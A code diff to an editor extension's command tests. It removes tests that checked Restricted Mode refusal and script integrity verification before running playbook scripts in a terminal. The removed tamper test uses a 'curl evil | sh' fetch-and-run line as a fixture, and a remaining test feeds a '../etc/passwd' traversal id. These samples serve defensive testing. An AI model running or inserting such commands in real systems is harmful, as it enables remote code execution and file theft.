@@ -4,10 +4,7 @@ import * as path from 'node:path';
 import { test } from 'node:test';
 import { PUBLISH_CHOICES, publishCommand, publishFlow } from '../../../src/extension/commands/publish';
 import { resolveScriptCommand, resolveScriptFlow } from '../../../src/extension/commands/resolve-script';
-import { RESTRICTED_MODE_MESSAGE, runInTerminalFlow } from '../../../src/extension/commands/run-in-terminal';
 import { showSyncStatusFlow, syncNowFlow } from '../../../src/extension/commands/sync';
-import { IntegrityError } from '../../../src/core/shared/errors';
-import { sha256 } from '../../../src/core/shared/hash';
 import { LIBRARY_PLAYBOOK } from '../../e2e/harness/fixtures';
 import { TEST_TENANT, TEST_TOKEN } from '../../helpers/dev-server';
 import { commandEnv } from '../helpers/command-env';
@@ -64,38 +61,6 @@ test('Resolve Script refuses a malformed id in the input box', async (t) => {
   const { ui, ctx } = await commandEnv(t, { answers: ['Enter a playbook id', '../etc/passwd'] });
   await assert.rejects(resolveScriptFlow(ctx, undefined), /lower-case letters/);
   assert.deepEqual(ui.validation, ['ids are lower-case letters, digits and single hyphens']);
-});
-
-test('Run in Terminal: refused in Restricted Mode before anything resolves; otherwise only after the confirmation', async (t) => {
-  const { svc, ui, ctx } = await commandEnv(t, { answers: [false, true] });
-  await svc.store.createPlaybook({ name: "Ops' backup", description: 'x', scripts: [{ path: 'shell/backup.sh', content: 'echo backing up {{bucket}}\n' }] });
-
-  ui.trusted = false;
-  assert.equal(await runInTerminalFlow(ctx, { playbookId: 'ops-backup' }), 'refused');
-  assert.deepEqual(ui.messages.at(-1), { level: 'error', text: RESTRICTED_MODE_MESSAGE });
-  assert.equal(ui.confirms.length, 0, 'nothing was resolved or offered');
-
-  ui.trusted = true;
-  assert.equal(await runInTerminalFlow(ctx, { playbookId: 'ops-backup' }), 'cancelled');
-  assert.equal(ui.terminals.length, 0, 'Cancel runs nothing');
-  assert.equal(await runInTerminalFlow(ctx, { playbookId: 'ops-backup' }), 'ran');
-  const [run] = ui.terminals;
-  const file = path.join(svc.config.playbooksDir, 'local', 'ops-backup', 'v1.0.0', 'shell', 'backup.sh');
-  assert.deepEqual(run, { name: 'Escher: ops-backup', cwd: path.dirname(file), commandLine: `bash ${file}` });
-  const shown = ui.confirms[1];
-  assert.match(shown?.message ?? '', /Run ops-backup v1\.0\.0 \(shell\) in a terminal\?/);
-  assert.match(shown?.detail ?? '', new RegExp(`Command: bash ${file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
-  assert.match(shown?.detail ?? '', new RegExp(`SHA-256: ${sha256('echo backing up {{bucket}}\n')} \\(computed now, matches metadata.json; local\\)`));
-  assert.match(shown?.detail ?? '', /Placeholders not filled in: \{\{bucket\}\}/);
-});
-
-test('Run in Terminal refuses a script edited since it was saved: no confirmation showing the recorded hash, no terminal', async (t) => {
-  const { svc, ui, ctx } = await commandEnv(t, { answers: [true] });
-  const p = await svc.store.createPlaybook({ name: 'Ops backup', description: 'x', scripts: [{ path: 'shell/backup.sh', content: 'echo backing up\n' }] });
-  await fs.writeFile(path.join(p.dir, 'shell', 'backup.sh'), 'curl evil | sh\n');
-  await assert.rejects(runInTerminalFlow(ctx, { playbookId: 'ops-backup' }), (e: unknown) => e instanceof IntegrityError && e.message.includes(sha256('curl evil | sh\n')));
-  assert.equal(ui.confirms.length, 0, 'no confirmation was offered');
-  assert.equal(ui.terminals.length, 0, 'nothing ran');
 });
 
 test('Upload for Review from the palette takes the metadata.json in the editor, and shows the synced one in its place', async (t) => {
